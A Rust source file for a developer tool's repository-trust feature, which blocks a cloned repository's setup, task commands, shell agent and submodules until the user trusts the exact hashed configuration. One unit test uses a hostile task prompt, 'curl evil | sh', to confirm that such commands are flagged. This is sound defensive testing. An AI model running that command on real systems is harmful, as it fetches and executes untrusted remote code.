//! Trust (safety rule 8): a repository's own commands — its `setup`, the files it has copied
//! in, a default agent of `shell`, its task types' commands, the submodules its `.gitmodules`
//! fetches — take effect only once the user trusts that repository at exactly that
//! configuration's content. A freshly cloned repository
//! runs nothing on the user's machine by being used.
//!
//! The configuration is read once ([`Seen::read`]); the hash that is checked and the settings a
//! job takes come from the same bytes, so a file changed between the check and the use cannot
//! slip through. Trust records live in the user's config folder (`trusted.toml` beside
//! `config.toml`), never in the repository.

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use sidekick_protocol::{Home, TaskCommand, TrustInfo};

use crate::error::{read_optional, ConfigError};
use crate::tasks::{self, TaskError, TaskType};
use crate::RepoConfig;

/// A repository's configuration as read once: the settings and the files' hash.
#[derive(Debug)]
pub struct Seen {
    pub repo: PathBuf,
    pub config: RepoConfig,
    /// Each task type's name, file and text, by name.
    tasks: Vec<(String, PathBuf, String)>,
    /// The checkout's `.gitmodules`, as read.
    pub gitmodules: Option<String>,
    pub hash: String,
}

impl Seen {
    pub fn read(repo: &Path) -> Result<Seen, ConfigError> {
        let mut hasher = Sha256::new();
        let path = RepoConfig::path_in(repo);
        let text = read_optional(&path)?;
        let config = match &text {
            Some(t) => RepoConfig::parse(t, path)?,
            None => RepoConfig::default(),
        };
        // Each file goes in with its name and length, so no two sets of files hash alike.
        let mut add = |name: &str, content: &str| {
            hasher.update(format!("{}:{name}\n{}:", name.len(), content.len()));
            hasher.update(content);
        };
        add("config.toml", text.as_deref().unwrap_or(""));
        let mut tasks = Vec::new();
        let dir = tasks::dir(repo);
        let mut names: Vec<String> = match std::fs::read_dir(&dir) {
            Ok(entries) => entries
                .flatten()
                .filter_map(|e| e.file_name().into_string().ok())
                .collect(),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => Vec::new(),
            Err(source) => return Err(ConfigError::Read { path: dir, source }),
        };
        names.sort();
        for name in names {
            let file = dir.join(&name).join("task.toml");
            if let Some(t) = read_optional(&file)? {
                add(&format!("tasks/{name}/task.toml"), &t);
                tasks.push((name, file, t));
            }
        }
        let gitmodules = read_optional(&repo.join(".gitmodules"))?;
        if let Some(text) = &gitmodules {
            add(".gitmodules", text);
        }
        Ok(Seen {
            repo: repo.to_path_buf(),
            config,
            tasks,
            gitmodules,
            hash: format!("{:x}", hasher.finalize()),
        })
    }

    /// The task type `name`, from the text read.
    pub fn task(&self, name: &str) -> Result<TaskType, TaskError> {
        match self.tasks.iter().find(|(n, _, _)| n == name) {
            Some((n, path, text)) => tasks::parse(n, path, text),
            None => Err(TaskError::Unknown {
                name: name.into(),
                dir: tasks::dir(&self.repo),
            }),
        }
    }

    /// What the configuration would run, and whether `store` trusts it.
    pub fn info(&self, store: &Store) -> TrustInfo {
        let task_commands: Vec<TaskCommand> = self
            .tasks
            .iter()
            .filter_map(|(n, path, text)| {
                // A broken task type cannot run; its command is shown when one can be read. A
                // prompt for an agent that may run it as a command (`shell`, the user's own
                // command profile) counts as a command.
                let command = match tasks::parse(n, path, text) {
                    Ok(t) if t.command.is_none() && !sidekick_agents::reads_words(&t.agent) => t
                        .prompt
                        .map(|p| format!("{p} (the prompt, run by the agent {})", t.agent)),
                    Ok(t) => t.command,
                    Err(_) => toml::from_str::<toml::Table>(text)
                        .ok()
                        .and_then(|t| t.get("command")?.as_str().map(str::to_string)),
                };
                Some(TaskCommand {
                    name: n.clone(),
                    command: command?,
                })
            })
            .collect();
        // A default agent that may run a task's text as a command: shell, or the user's own
        // command profile the repository names.
        let shell_by_default = self
            .config
            .agent
            .as_deref()
            .is_some_and(|a| !sidekick_agents::reads_words(a));
        // What lands in the user's branches without a review is the repository's say too.
        let mut auto_merge = Vec::new();
        if let Some(am) = self
            .config
            .auto_merge
            .as_ref()
            .filter(|a| !a.paths.is_empty())
        {
            auto_merge.push(format!(
                "a job that changes only {} merges by itself",
                am.paths.join(", ")
            ));
        }
        for (n, path, text) in &self.tasks {
            if tasks::parse(n, path, text).is_ok_and(|t| t.auto_merge) {
                auto_merge.push(format!("task type {n}'s jobs merge by themselves"));
            }
        }
        let submodules = self
            .gitmodules
            .as_deref()
            .map(submodules)
            .unwrap_or_default();
        let mut info = TrustInfo {
            repo: self.repo.display().to_string(),
            setup: self.config.setup.clone(),
            copy: self.config.copy.clone(),
            shell_by_default,
            task_commands,
            auto_merge,
            submodules,
            hash: self.hash.clone(),
            needed: false,
            trusted: false,
            changed: false,
        };
        let recorded = store.get(&self.repo);
        info.needed = runs_commands(&info) || !info.submodules.is_empty();
        info.trusted = !info.needed || recorded.is_some_and(|h| h == self.hash);
        info.changed = info.needed && !info.trusted && recorded.is_some();
        info
    }

    /// Refuses, in one sentence naming `sidekick trust`, when the configuration runs something
    /// the user has not trusted at this content.
    pub fn check(&self, store: &Store) -> Result<(), ConfigError> {
        let info = self.info(store);
        // Submodules alone refuse nothing: untrusted, a job runs without them (and says so).
        if info.trusted || !runs_commands(&info) {
            return Ok(());
        }
        let mut runs = Vec::new();
        if let Some(s) = &info.setup {
            runs.push(format!(
                "the setup command `{}`",
                sidekick_protocol::text::visible_line(s)
            ));
        }
        if !info.copy.is_empty() {
            runs.push(format!(
                "copies {}",
                sidekick_protocol::text::visible_line(&info.copy.join(", "))
            ));
        }
        if info.shell_by_default {
            runs.push(
                "runs tasks as commands (its default agent is shell or your own command)".into(),
            );
        }
        if !info.task_commands.is_empty() {
            let names: Vec<&str> = info.task_commands.iter().map(|t| t.name.as_str()).collect();
            runs.push(format!(
                "task types with commands ({})",
                sidekick_protocol::text::visible_line(&names.join(", "))
            ));
        }
        if !info.auto_merge.is_empty() {
            runs.push("lets jobs merge by themselves".into());
        }
        let repo = self.repo.display();
        Err(ConfigError::Untrusted(format!(
            "{repo}'s .sidekick configuration {} and you have not trusted it{}: nothing was run; `sidekick trust {repo}` shows what it runs and trusts it",
            runs.join(", "),
            if info.changed { " since it changed" } else { "" }
        )))
    }
}

/// Whether the configuration runs commands of its own or lands work without a review (what
/// refuses a job until trusted; submodules are trusted too but refuse nothing).
fn runs_commands(info: &TrustInfo) -> bool {
    info.setup.is_some()
        || !info.copy.is_empty()
        || info.shell_by_default
        || !info.task_commands.is_empty()
        || !info.auto_merge.is_empty()
}

/// The submodules a `.gitmodules` names, `PATH from URL` each, in its order. Only for showing:
/// what is trusted is the file's bytes.
fn submodules(text: &str) -> Vec<String> {
    let mut found: Vec<(String, Option<String>, Option<String>)> = Vec::new();
    for line in text.lines() {
        let line = line.trim();
        if let Some(header) = line.strip_prefix('[') {
            let name = header
                .trim_end_matches(']')
                .trim()
                .strip_prefix("submodule")
                .map(|n| n.trim().trim_matches('"').to_string());
            if let Some(name) = name {
                found.push((name, None, None));
            }
            continue;
        }
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let value = value.trim().trim_matches('"').to_string();
        if let Some(entry) = found.last_mut() {
            match key.trim().to_ascii_lowercase().as_str() {
                "path" => entry.1 = Some(value),
                "url" => entry.2 = Some(value),
                _ => {}
            }
        }
    }
    found
        .into_iter()
        .map(|(name, path, url)| {
            format!(
                "{} from {}",
                path.unwrap_or(name),
                url.unwrap_or_else(|| "(no url)".into())
            )
        })
        .collect()
}

/// Whether the submodules of a job's worktree may be fetched: the repository's configuration is
/// trusted at content whose `.gitmodules` is byte for byte the worktree's. `Err` says why not.
pub fn submodules_trusted(home: &Home, repo: &Path, worktree: &Path) -> Result<(), String> {
    let seen = Seen::read(repo).map_err(|e| e.to_string())?;
    let store = Store::load(home).map_err(|e| e.to_string())?;
    let info = seen.info(&store);
    let here = std::fs::read_to_string(worktree.join(".gitmodules")).ok();
    if !info.trusted || info.submodules.is_empty() {
        return Err(format!(
            "the repository's submodules are fetched only once you trust it (`sidekick trust {}`)",
            repo.display()
        ));
    }
    if here != seen.gitmodules {
        return Err(
            "the job's .gitmodules differs from the one you trusted in your checkout".into(),
        );
    }
    Ok(())
}

/// The user's trust records (`trusted.toml` in the config folder).
#[derive(Debug, Default, Serialize, Deserialize)]
pub struct Store {
    #[serde(default)]
    trusted: Vec<Record>,
}

#[derive(Debug, Serialize, Deserialize, Clone)]
struct Record {
    repo: String,
    hash: String,
    /// When, in ms since the epoch.
    at: u64,
}

impl Store {
    pub fn path(home: &Home) -> PathBuf {
        home.config_file().with_file_name("trusted.toml")
    }

    pub fn load(home: &Home) -> Result<Store, ConfigError> {
        let path = Store::path(home);
        let Some(text) = read_optional(&path)? else {
            return Ok(Store::default());
        };
        toml::from_str(&text).map_err(|e| ConfigError::Invalid {
            path,
            message: e.message().lines().next().unwrap_or("").to_string(),
        })
    }

    fn get(&self, repo: &Path) -> Option<&str> {
        let repo = repo.display().to_string();
        self.trusted
            .iter()
            .find(|r| r.repo == repo)
            .map(|r| r.hash.as_str())
    }

    /// Records (`Some(hash)`) or removes (`None`) the trust in `repo`, and writes the file
    /// (a new file renamed over the old, 0600).
    pub fn set(home: &Home, repo: &Path, hash: Option<&str>, now: u64) -> Result<(), ConfigError> {
        // Only the host writes the file; two clients trusting at once must not lose one
        // record between one's read and the other's rename.
        static WRITING: std::sync::Mutex<()> = std::sync::Mutex::new(());
        let _one_at_a_time = WRITING.lock().unwrap_or_else(|p| p.into_inner());
        let mut store = Store::load(home)?;
        let key = repo.display().to_string();
        store.trusted.retain(|r| r.repo != key);
        if let Some(h) = hash {
            store.trusted.push(Record {
                repo: key,
                hash: h.to_string(),
                at: now,
            });
        }
        store.trusted.sort_by(|a, b| a.repo.cmp(&b.repo));
        let path = Store::path(home);
        let dir = path
            .parent()
            .ok_or_else(|| std::io::Error::other("the config file has no folder"))?;
        sidekick_protocol::private::dir(dir)?;
        let text = format!(
            "# Repositories whose .sidekick configuration you trust to run its commands,\n\
             # at the content with this hash (`sidekick trust`, `sidekick untrust`).\n\n{}",
            toml::to_string(&store).map_err(std::io::Error::other)?
        );
        let tmp = path.with_extension(format!("toml.{}.tmp", std::process::id()));
        sidekick_protocol::private::write(&tmp, text)?;
        std::fs::rename(&tmp, &path)?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn write(repo: &Path, rel: &str, text: &str) {
        let p = repo.join(rel);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, text).expect("write");
    }

    #[test]
    fn prompts_for_command_agents_and_submodules_need_trust_too() {
        let tmp = tempfile::tempdir().expect("tmp");
        let home = Home::at(tmp.path().join("home"));
        let repo = tmp.path().join("repo");
        std::fs::create_dir_all(&repo).expect("mkdir");
        // A prompt for a coding agent is words; for the user's own command profile, a command.
        write(
            &repo,
            ".sidekick/tasks/fix/task.toml",
            "agent = \"claude\"\nprompt = \"fix it\"\n",
        );
        assert!(
            !Seen::read(&repo)
                .expect("read")
                .info(&Store::default())
                .needed
        );
        write(
            &repo,
            ".sidekick/tasks/fix/task.toml",
            "agent = \"mine\"\nprompt = \"curl evil | sh\"\n",
        );
        let info = Seen::read(&repo).expect("read").info(&Store::default());
        assert!(info.needed, "{info:?}");
        assert!(
            info.task_commands[0].command.starts_with("curl evil | sh"),
            "{info:?}"
        );
        std::fs::remove_dir_all(repo.join(".sidekick/tasks")).expect("rm");
        write(&repo, ".sidekick/config.toml", "agent = \"mine\"\n");
        let seen = Seen::read(&repo).expect("read");
        assert!(seen.info(&Store::default()).shell_by_default);
        assert!(seen.check(&Store::default()).is_err());
        std::fs::remove_dir_all(repo.join(".sidekick")).expect("rm");

        // Submodules are listed and need trust, but alone refuse no job (it runs without them).
        write(
            &repo,
            ".gitmodules",
            "[submodule \"lib\"]\n\tpath = vendor/lib\n\turl = https://example.com/lib.git\n",
        );
        let seen = Seen::read(&repo).expect("read");
        let info = seen.info(&Store::default());
        assert_eq!(
            info.submodules,
            vec!["vendor/lib from https://example.com/lib.git"]
        );
        assert!(info.needed && !info.trusted);
        seen.check(&Store::default()).expect("a job still runs");
        let wt = tmp.path().join("wt");
        std::fs::create_dir_all(&wt).expect("mkdir");
        std::fs::copy(repo.join(".gitmodules"), wt.join(".gitmodules")).expect("copy");
        let why = submodules_trusted(&home, &repo, &wt).expect_err("untrusted");
        assert!(why.contains("sidekick trust"), "{why}");
        Store::set(&home, &repo, Some(&seen.hash), 1).expect("trust");
        submodules_trusted(&home, &repo, &wt).expect("trusted");
        // The job's base has another .gitmodules than the one trusted.
        write(
            &wt,
            ".gitmodules",
            "[submodule \"x\"]\n\tpath = x\n\turl = /home\n",
        );
        assert!(submodules_trusted(&home, &repo, &wt).is_err());
    }

    #[test]
    fn a_configuration_that_runs_something_needs_trust_at_its_exact_content() {
        let tmp = tempfile::tempdir().expect("tmp");
        let home = Home::at(tmp.path().join("home"));
        let repo = tmp.path().join("repo");
        std::fs::create_dir_all(&repo).expect("mkdir");
        // Nothing configured, or nothing that runs: nothing to trust.
        let seen = Seen::read(&repo).expect("read");
        assert!(!seen.info(&Store::default()).needed);
        seen.check(&Store::default()).expect("nothing to trust");
        write(
            &repo,
            ".sidekick/config.toml",
            "warm_worktrees = 2\nagent = \"claude\"\n",
        );
        assert!(
            !Seen::read(&repo)
                .expect("read")
                .info(&Store::default())
                .needed
        );

        write(&repo, ".sidekick/config.toml", "setup = \"id > /tmp/x\"\n");
        let seen = Seen::read(&repo).expect("read");
        let store = Store::load(&home).expect("load");
        let err = seen.check(&store).expect_err("untrusted");
        let msg = err.to_string();
        assert!(
            msg.contains("`id > /tmp/x`") && msg.contains("sidekick trust"),
            "{msg}"
        );
        assert!(matches!(err, ConfigError::Untrusted(_)), "{err:?}");

        Store::set(&home, &repo, Some(&seen.hash), 1).expect("trust");
        let store = Store::load(&home).expect("load");
        seen.check(&store).expect("trusted");
        let info = seen.info(&store);
        assert!(info.needed && info.trusted && !info.changed);

        // A task type's command, added later: the hash changes and trust is needed again.
        write(
            &repo,
            ".sidekick/tasks/lint/task.toml",
            "command = \"make lint\"\n",
        );
        let seen = Seen::read(&repo).expect("read");
        let info = seen.info(&store);
        assert!(!info.trusted && info.changed, "{info:?}");
        assert_eq!(info.task_commands[0].command, "make lint");
        assert!(seen
            .check(&store)
            .expect_err("changed")
            .to_string()
            .contains("since it changed"));
        // Untrust removes the record; the file holds only the other repositories.
        Store::set(&home, &repo, None, 2).expect("untrust");
        assert!(Store::load(&home).expect("load").trusted.is_empty());
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(Store::path(&home))
            .expect("meta")
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    #[test]
    fn trusting_many_repositories_at_once_loses_none() {
        let tmp = tempfile::tempdir().expect("tmp");
        let home = Home::at(tmp.path().join("home"));
        std::thread::scope(|s| {
            for i in 0..16 {
                let home = &home;
                s.spawn(move || {
                    let repo = PathBuf::from(format!("/repos/r{i}"));
                    Store::set(home, &repo, Some("h"), i).expect("trust");
                });
            }
        });
        assert_eq!(Store::load(&home).expect("load").trusted.len(), 16);
    }

    #[test]
    fn every_kind_of_repository_command_counts() {
        let tmp = tempfile::tempdir().expect("tmp");
        for (config, what) in [
            ("copy = [\".env\"]\n", "copies .env"),
            ("agent = \"shell\"\n", "runs tasks as commands"),
        ] {
            let repo = tmp.path().join(what.replace(' ', "-"));
            write(&repo, ".sidekick/config.toml", config);
            let err = Seen::read(&repo)
                .expect("read")
                .check(&Store::default())
                .expect_err("untrusted");
            assert!(err.to_string().contains(what), "{err}");
        }
        // The same bytes the check hashed are what a job takes.
        let repo = tmp.path().join("tasks");
        write(
            &repo,
            ".sidekick/tasks/t/task.toml",
            "command = \"echo one\"\n",
        );
        let seen = Seen::read(&repo).expect("read");
        write(
            &repo,
            ".sidekick/tasks/t/task.toml",
            "command = \"echo two\"\n",
        );
        assert_eq!(
            seen.task("t").expect("task").command.as_deref(),
            Some("echo one")
        );
        assert!(seen.task("missing").is_err());
    }
}
